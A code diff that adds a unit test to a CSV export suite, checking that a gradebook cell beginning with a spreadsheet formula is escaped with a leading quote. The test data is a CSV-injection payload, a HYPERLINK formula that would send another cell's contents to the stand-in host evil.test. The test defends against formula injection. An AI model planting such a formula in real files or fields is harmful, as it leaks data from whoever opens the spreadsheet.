@@ -19,6 +19,12 @@ describe("CSV exports", () => {
     ]);
   });
 
+  it("defuses cells a spreadsheet would run as formulas", () => {
+    const csv = gradebookCsv([{ studentId: "1", name: '=HYPERLINK("https://evil.test/?"&B2,"x")', email: "e@x.test", enrolled: true, score: null, attempts: 0, finishedAttempts: 0, timeMs: 0, lastActivity: null, late: false }], "UTC");
+    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    expect(row!.Student).toBe(`'=HYPERLINK("https://evil.test/?"&B2,"x")`);
+  });
+
   it("keeps a passage with line breaks in one cell", () => {
     const csv = analyticsCsv([{ question: "Who?", rightAnswer: "Tokayev", answered: 4, share: 0.25, wrongAnswers: [{ answer: "Nazarbayev", count: 3 }], passage: "Line one,\nline two", article: "Kyiv Independent" }]);
     const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
